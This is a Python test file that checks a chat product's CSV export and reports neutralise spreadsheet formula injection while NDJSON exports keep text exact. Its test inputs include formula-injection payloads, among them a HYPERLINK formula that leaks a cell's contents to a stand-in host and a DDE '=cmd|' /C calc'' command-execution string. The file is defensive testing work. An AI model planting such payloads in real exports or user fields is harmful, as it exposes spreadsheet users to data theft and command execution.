"""CSV formula injection: end customers write the message text and admins open the CSV export in a
spreadsheet, so no cell of it may start like a formula; NDJSON keeps the text exactly. One neutraliser
(confide.core.spreadsheet) serves the export and the evaluation reports."""

from __future__ import annotations

import csv
import io
import json

import pytest

from confide.core.spreadsheet import neutralise
from confide.evaluation import reports
from tests.privacy.chat_seed import Shop, make_shop, seed_conversation

HOSTILE = (
    '=HYPERLINK("http://x/?a="&A1,"Click")',
    "@SUM(1+1)",
    "+1+2",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
    "fine\r=1+1",  # a bare CR inside a text must not start a row a spreadsheet reads (its cell would start with `=`)
)


@pytest.fixture
async def shop(client, factory) -> Shop:
    return await make_shop(client, factory)


def test_the_neutraliser():
    for text in HOSTILE[:-1]:
        assert neutralise(text) == "'" + text
    for value in ("Hello = world", "a-b", "", "'already quoted", 5, -5, 2.5, None, True):
        assert neutralise(value) == value, value
    # The reports' CSV uses the same one.
    assert reports._cell("=1+1") == "'=1+1" and reports._cell(None) == "" and reports._cell(-3) == -3


async def test_csv_cells_never_start_a_formula_and_ndjson_is_exact(app, client, shop):
    conversation = await seed_conversation(app, shop, visitor_id="vis_formula", customer_ref="=cmd|' /C calc'!A0", texts=HOSTILE, note="@note")
    url = f"/v1/tenants/{shop.tenant_id}/exports/conversations"

    r = await client.get(url, params={"format": "csv"}, headers=shop.owner.headers)
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode(), newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), row
    texts = [row[6] for row in rows if row[0] == "message"]
    assert texts == ["'" + t for t in HOSTILE[:-1]] + [HOSTILE[-1]]
    assert next(row[6] for row in rows if row[0] == "note") == "'@note"
    # The JSON in the `data` column starts with `{` and keeps the values exactly.
    conv = next(row for row in rows if row[0] == "conversation" and row[1] == conversation)
    assert json.loads(conv[7])["customer_ref"] == "=cmd|' /C calc'!A0"

    r = await client.get(url, headers=shop.owner.headers)
    assert r.status_code == 200
    records = [json.loads(line) for line in r.content.decode().splitlines()]
    assert [rec["text"] for rec in records if rec["type"] == "message"] == list(HOSTILE), "NDJSON is never escaped"
    assert records[-1]["type"] == "manifest"
